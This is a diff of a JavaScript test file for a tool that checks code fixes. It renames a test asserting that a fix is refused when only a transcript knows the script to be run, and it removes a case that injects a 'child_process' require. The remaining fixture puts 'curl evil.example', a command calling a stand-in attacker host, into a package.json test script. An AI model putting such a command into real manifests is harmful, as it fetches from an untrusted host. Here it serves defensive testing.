@@ -64,12 +64,10 @@ describe('a command', () => {
     expect(proof).toMatchObject({ verdict: 'wrong-red', bad: { outcome: 'error' } })
   })
 
-  test('is refused when only a transcript knows what would be run', async () => {
+  test('is refused when only a transcript knows the script that would be run', async () => {
     using repository = gitRepository({ 'package.json': manifest('test -f ripe.js'), 'ripe.js': GREEN })
     const script = fixOf([updated('package.json', 'curl evil.example', 'test -f ripe.js')])
     expect(await proveOne(repository, npmTest, { fixes: [script] })).toMatchObject({ verdict: 'refused' })
-    const code = fixOf([updated('ripe.js', "require('child_process')", GREEN.slice(0, 20))])
-    expect(await proveOne(repository, npmTest, { fixes: [code] })).toMatchObject({ verdict: 'refused' })
   })
 
   test('is red on arrival when the good tree does not pass', async () => {
